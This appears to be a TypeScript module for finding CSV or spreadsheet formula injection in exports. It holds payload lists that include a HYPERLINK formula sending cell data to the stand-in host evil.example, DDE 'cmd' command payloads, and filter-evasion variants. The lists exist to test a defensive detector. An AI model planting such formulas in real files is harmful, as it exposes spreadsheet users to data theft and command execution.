/** Parses CSV exports, and finds formulas that a spreadsheet would run (ASVS 5.0, 1.2.10). */
import {parse} from 'csv-parse/sync';

/** Returns rows by column name. @throws Error for CSV that violates RFC 4180. */
export const parseCsv = (csv: string) =>
  parse<Record<string, string>>(csv, {bom: true, columns: true, record_delimiter: '\r\n'});

/** Formulas in every form that a spreadsheet recognises. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
];

/** Formulas after any separator that a spreadsheet may split a line at, with or without quotes. */
export const SPLITS = [
  "x;=cmd|'/C calc'!A0;y",
  'x\t=1+2',
  'x,=1+2',
  'x|=1+2',
  'x;;  =1+2',
  'x; "=1+2',
  'x";=1+2',
  "x;'\t@SUM(1)",
  'x\r\n;+1+cmd|x',
  'x;\uff1d1+2',
  '"=1+1"',
  'x\t-2+3',
  'x"";=1+1',
];

/** Text that must not be escaped. */
export const HARMLESS = ['a=1', 'Rao, "Asha"', 'two\r\nlines', "O'Hara & Söhne", '株式会社'];

/** Returns the parts that start a formula when the CSV is split at every possible separator. */
export function liveFormulas(csv: string): string[] {
  const pieces = csv.replace('\uFEFF', '').split(/[,;|\t\r\n]/);
  return pieces.filter((piece) => /^[\s"\0]*[=+\-@＝＋－＠]/u.test(piece));
}
